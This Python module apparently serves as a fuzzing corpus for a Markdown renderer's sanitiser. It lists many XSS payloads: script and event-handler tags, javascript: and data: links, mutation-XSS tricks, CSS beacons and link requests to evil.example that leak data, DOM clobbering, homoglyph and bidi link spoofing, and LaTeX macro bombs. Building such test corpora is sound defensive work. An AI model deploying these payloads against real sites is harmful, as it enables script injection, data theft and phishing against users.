"""Texts that try to run script, load something, or lead astray when a page renders them as Markdown."""

from __future__ import annotations

from itertools import product

HTML = [
    "<script>window.hit = 1</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<object data=javascript:window.hit=1></object>",
    "<embed src=https://evil.example/x.swf>",
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>a[href^='/c/1']{background:url(https://evil.example/1)}</style>",
    "<form action=https://evil.example/><button>go</button></form>",
    "<button formaction=javascript:window.hit=1>go</button>",
    "<template><script>window.hit=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<div style=background:url(https://evil.example/x.png)>x</div>",
    "<p id=message name=message>clobber</p>",
    "<form name=conversation><input name=querySelector></form>",
    "<audio src=https://evil.example/x.mp3 autoplay></audio>",
    "<video poster=https://evil.example/x.png></video>",
    "<picture><source srcset=https://evil.example/x.png><img></picture>",
    "<img src=https://evil.example/x.png srcset='https://evil.example/y.png 2x'>",
    "<img src='' style='content:url(https://evil.example/x)'>",
    "<portal src=https://evil.example/></portal>",
    "<slot onslotchange=window.hit=1></slot><x-y is=evil></x-y>",
    "<svg><use href='https://evil.example/x.svg#a'/></svg>",
    "<svg><a xlink:href=javascript:window.hit=1><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:window.hit=1 /></svg>",
    "<svg><foreignObject><iframe src=javascript:parent.hit=1></foreignObject></svg>",
    "<svg><image href=https://evil.example/x.png /></svg>",
    "<math href=javascript:window.hit=1>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:window.hit=1>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.hit=1>",
    "<!--><img src=x onerror=window.hit=1>-->",
    "<![CDATA[><img src=x onerror=window.hit=1>]]>",
    "<?xml-stylesheet href='javascript:window.hit=1'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'https://evil.example/'>]>&y;",
    "<<script>window.hit=1//<</script>",
    "<img src=x onerror=window.hit=1//",
    "<a href=javascript:window.hit=1>a</a>",
    "<a ping=https://evil.example/ href=/>a</a>",
    "&lt;img src=x onerror=window.hit=1&gt;",
    "**<b onclick=window.hit=1>bold</b>**",
    "<br/onmouseover=window.hit=1><br onclick=window.hit=1>",
]
# An event handler in each place where a block or a line may begin.
HANDLERS = [
    text.replace("{}", f"<{element}=window.hit=1>")
    for element, text in product(
        ["img src=x onerror", "svg/onload", "details open ontoggle", "input autofocus onfocus", "body onload"],
        [
            "{}",
            "> {}",
            "- a\n  1. {}",
            "# {}",
            "| {} |\n|---|\n| {} |",
            "a `{}` b",
            "[{}](/x)",
            "```html\n{}\n```",
            "~~{}~~",
        ],
    )
]
ADDRESSES = [
    "javascript:window.hit=1",
    "JaVaScRiPt:window.hit=1",
    "java\tscript:window.hit=1",
    "javascript&colon;window.hit=1",
    "&#106;avascript:window.hit=1",
    "&#x6A;&#x61;vascript&#58;window.hit=1",
    "\\javascript:window.hit=1",
    "\u0001javascript:window.hit=1",
    "javascript://evil.example/%0awindow.hit=1",
    "data:text/html,<script>window.hit=1</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5oaXQ9MSIvPg==",
    "vbscript:window.hit=1",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    "//evil.example/x",
    "/\\evil.example/x",
    "\\\\evil.example\\x",
    "https:evil.example",
    "https://user:pass@evil.example/",
    "https://evil.example/?secret=1&of=2",
    "view-source:https://evil.example/",
    "tel:+1900",
]
LINKS = [
    text.replace("{}", address)
    for address, text in product(ADDRESSES, ["[a]({})", "![b]({})", "[c]\n\n[c]: {}", "<{}>"])
]
MARKDOWN = [
    '[r](https://evil.example/" onmouseover=window.hit=1 x=")',
    "[s](https://ok.example 'title\" onmouseover=\"window.hit=1')",
    "[g](<java\\script:window.hit=1>)",
    "[![g](https://evil.example/a.png)](https://evil.example/b)",
    "[[[a](javascript:window.hit=1)](javascript:window.hit=1)](javascript:window.hit=1)",
    "[a](\njavascript:window.hit=1\n)",
    '![e" onerror="window.hit=1](x)',
    "[^1]\n\n[^1]: <script>window.hit=1</script>",
    "[x]: javascript:window.hit=1 'a'\n[x][] and [x][x] and ![x]",
    "www.evil.example/<script>window.hit=1</script>",
    "me@evil.example?subject=<script>window.hit=1</script>",
    '```html" onmouseover="window.hit=1\n<script>window.hit=1</script>\n```',
    "```<img/src=x/onerror=window.hit=1>\nx\n```",
    "```../../../api/me\nx\n```",
    "```__proto__\nx\n```\n\n```constructor\nx\n```",
    "__proto__ constructor {{7*7}} ${window.hit=1} <%= 1 %>",
    "> " * 60 + "<script>window.hit=1</script>",
]
FORMULAS = [
    f"${text}$ and $$ {text} $$"
    for text in [
        r"\href{javascript:window.hit=1}{x}",
        r"\url{https://evil.example/}",
        r"\includegraphics[height=1em]{https://evil.example/x.png}",
        r"\htmlData{a=b, onclick=window.hit}{x}",
        r"\htmlStyle{background: url(https://evil.example/x)}{x}",
        r"\htmlId{message}{x}",
        r"\htmlClass{dock}{x}",
        r"\text{<img src=x onerror=window.hit=1>}",
        r"\unicode{<script>window.hit=1</script>}",
        r"\color{red;background:url(https://evil.example/x)}x",
        r"\textcolor{url(https://evil.example/x)}{x}",
        r"\colorbox{red}{x} \fcolorbox{red}{blue}{y} \pmb{z} \vec{AB}",
        r"\rule{10000em}{10000em}",
        r"\kern-9999em x \hspace{9999em}",
        r"\raisebox{-9999em}{x}",
        r"\def\a{\a\a}\a",
        r"\def\a{xx}\def\b{\a\a\a\a\a\a\a\a}\def\c{\b\b\b\b\b\b\b\b}\c\c\c\c\c\c\c\c",
        r"\gdef\x{window.hit=1}\x \global\let\frac\x",
        r"\newcommand{\img}{<img src=x onerror=window.hit=1>}\img",
        r"\left\{\begin{matrix}1\\2\\3\\4\\5\\6\end{matrix}\right.",
        r"\xrightarrow{javascript:window.hit=1} \cancel{x} \boxed{y} \tag{<b>}",
        r"\begin{CD} a @>b>> c \end{CD} \verb|<script>|",
        *(
            f"{macro}{{" * 60 + "x" + "}" * 60
            for macro in (r"\sqrt", r"\vphantom", r"\smash", r"\underbrace", "x^", r"\text")
        ),
    ]
]
CODE = [
    f"```{language}\n{text}\n```"
    for language, text in [
        ("html", "<script>window.hit=1</script><img src=x onerror=window.hit=1>" * 3),
        ("svg", "<svg onload=window.hit=1><script>window.hit=1</script>"),
        ("js", "`${`${`${" * 400),
        ("java", ("_" * 450 + "\n") * 20),
        ("ini", ("0x" * 220 + "\n") * 20),
        ("csharp", ("a" * 450 + "\n") * 20),
        ("haskell", "\n" * 300),
        ("markdown", "[x](javascript:window.hit=1)\n![y](https://evil.example/x.png)"),
        ("diff", "+<script>window.hit=1</script>\n-<img src=x onerror=window.hit=1>"),
        ("php", "<?php echo '<script>window.hit=1</script>'; ?>"),
    ]
]
CHARACTERS = [
    "\u202egnp.exe\u2066 <img src=x onerror=window.hit=1>",
    "[\u202emoc.knab//:sptth](https://evil.example/)",
    "[paypal](https://\u0440\u0430ypal.com/login) https://\u0430pple.com/ <https://xn--pple-43d.com>",
    "java\u200bscript:window.hit=1 [a](java\u200bscript:window.hit=1) [b](\ufeffjavascript:window.hit=1)",
    "[c](https://evil\u3002example/) [d](https://\u2100.example/) [e](https://evil.example\u2044x.ok.example/)",
    "\uff1cscript\uff1ewindow.hit=1\uff1c/script\uff1e \u2028<script>window.hit=1</script>\u2029",
    "\ud7ff\ufffe\u0000<img src=x onerror=window.hit=1>",
]
CORPUS = [*HTML, *HANDLERS, *LINKS, *MARKDOWN, *FORMULAS, *CODE, *CHARACTERS]
